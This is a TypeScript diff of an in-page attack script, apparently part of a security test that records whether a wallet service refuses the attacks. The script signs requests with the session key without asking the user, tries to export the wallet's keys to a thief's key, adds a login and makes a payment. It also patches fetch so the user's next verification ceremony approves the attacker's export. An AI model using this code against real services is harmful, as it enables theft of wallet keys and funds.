@@ -19,13 +19,32 @@ export interface Attempts {
   refusals: string[]
 }
 
+/** What the script does with what it found. */
+interface Thief {
+  call: (method: string, path: string, body?: object, headers?: object) => Promise<Reply>
+  sign: (text: string) => Promise<string>
+  /** Tries, signs what it is given to sign, and names the step-up that it is asked for, though nobody has proven it. */
+  insist: (method: string, path: string, body?: object, headers?: object) => Promise<Reply>
+}
+
+interface Reply {
+  status: number
+  body: Record<string, unknown>
+}
+
+declare global {
+  var thief: Thief
+  /** The step-up of the thief's own call, which the user's next ceremony is to prove. */
+  var patientStepUp: string
+}
+
 /** Runs in the page, so it uses nothing of this file. It signs with the session key itself and asks no user. */
-export async function stealFromPage({ accountId, profile, email, targetKey }: Loot): Promise<Attempts> {
+export function enterPage({ profile }: Loot): void {
   interface SigningKey {
     signingKey: CryptoKey
     publicKey: string
+    startedAt: number
   }
-  type Reply = { status: number; body: Record<string, unknown> }
 
   const toHex = (bytes: Uint8Array) => [...bytes].map((byte) => byte.toString(16).padStart(2, '0')).join('')
   /** One INTEGER of DER: no needless zero in front, and a zero where the number would be negative. */
@@ -53,10 +72,10 @@ export async function stealFromPage({ accountId, profile, email, targetKey }: Lo
       Object.values(value).forEach(walk)
     }
     all.forEach(walk)
-    return found.at(-1)!
+    return found.sort((a, b) => a.startedAt - b.startedAt).at(-1)!
   }
-  const { signingKey, publicKey } = await findKey()
   const sign = async (text: string) => {
+    const { signingKey, publicKey } = await findKey()
     const algorithm = { name: 'ECDSA', hash: 'SHA-256' }
     const pair = new Uint8Array(
       await crypto.subtle.sign(algorithm, signingKey, new TextEncoder().encode(text)),
@@ -80,9 +99,7 @@ export async function stealFromPage({ accountId, profile, email, targetKey }: Lo
     })
     return { status: response.status, body: await response.json().catch(() => ({})) }
   }
-  const refusals: string[] = []
-  /** Tries, signs what it is given to sign, and names the step-up that it is asked for, though nobody has proven it. */
-  const insist = async (method: string, path: string, body?: object, headers = {}): Promise<number> => {
+  const insist = async (method: string, path: string, body?: object, headers = {}): Promise<Reply> => {
     const withSignature = async (more: Record<string, string>): Promise<Reply> => {
       const first = await call(method, path, body, { ...headers, ...more })
       if (first.status !== 202) return first
@@ -92,11 +109,14 @@ export async function stealFromPage({ accountId, profile, email, targetKey }: Lo
     }
     const first = await withSignature({})
     const { stepUpId } = (first.body.details ?? {}) as { stepUpId?: string }
-    const last = stepUpId === undefined ? first : await withSignature({ 'Step-Up-Id': stepUpId })
-    if (last.status >= 400) refusals.push(String(last.body.code))
-    return last.status
+    return stepUpId === undefined ? first : withSignature({ 'Step-Up-Id': stepUpId })
   }
+  globalThis.thief = { call, sign, insist }
+}
 
+/** Runs in the page after `enterPage`: takes at once what it can. */
+export async function stealFromPage({ accountId, profile, email, targetKey }: Loot): Promise<Attempts> {
+  const { call, sign, insist } = globalThis.thief
   const exported = await insist('POST', `/wallet/internal-accounts/${accountId}/export`, {
     clientPublicKey: targetKey,
   })
@@ -113,5 +133,47 @@ export async function stealFromPage({ accountId, profile, email, targetKey }: Lo
     'Service-Wallet-Signature': await sign(JSON.parse(payload) as string),
     'Idempotency-Key': crypto.randomUUID(),
   })
-  return { export: exported, newWayIn, payment, refusals }
+  const attempts = [exported, newWayIn, payment]
+  return {
+    ...{ export: exported.status, newWayIn: newWayIn.status, payment: payment.status },
+    refusals: attempts.filter(({ status }) => status >= 400).map(({ body }) => String(body.code)),
+  }
+}
+
+/**
+ * Runs in the page after `enterPage`: asks for an export to the thief's key, and names its step-up in the next ceremony of the user,
+ * in place of the one that the user is asked for.
+ */
+export async function waitForUser({ accountId, targetKey }: Loot): Promise<void> {
+  const asked = await globalThis.thief.call('POST', `/wallet/internal-accounts/${accountId}/export`, {
+    clientPublicKey: targetKey,
+  })
+  globalThis.patientStepUp = (asked.body.details as { stepUpId: string }).stepUpId
+  const original = globalThis.fetch
+  globalThis.fetch = async (input, init) => {
+    if (!(input instanceof Request) || !/\/(challenge|verify)$/.test(input.url)) return original(input, init)
+    const headers = new Headers(input.headers)
+    headers.set('Step-Up-Id', globalThis.patientStepUp)
+    return original(new Request(input, { headers }), init)
+  }
+}
+
+/** Runs in the page after the user's ceremony: uses what it has proven. */
+export async function useCeremony({ accountId, targetKey }: Loot): Promise<number[]> {
+  const { call, sign } = globalThis.thief
+  const statuses: number[] = []
+  // Twice: one ceremony proves one action.
+  for (let i = 0; i < 2; i++) {
+    const path = `/wallet/internal-accounts/${accountId}/export`
+    const named = { 'Step-Up-Id': globalThis.patientStepUp }
+    const first = await call('POST', path, { clientPublicKey: targetKey }, named)
+    const { payloadToSign, requestId } = first.body as Record<string, string>
+    if (first.status !== 202) statuses.push(first.status)
+    else {
+      const signature = { 'Service-Wallet-Signature': await sign(payloadToSign!), 'Request-Id': requestId! }
+      const last = await call('POST', path, { clientPublicKey: targetKey }, { ...named, ...signature })
+      statuses.push(last.status)
+    }
+  }
+  return statuses
 }
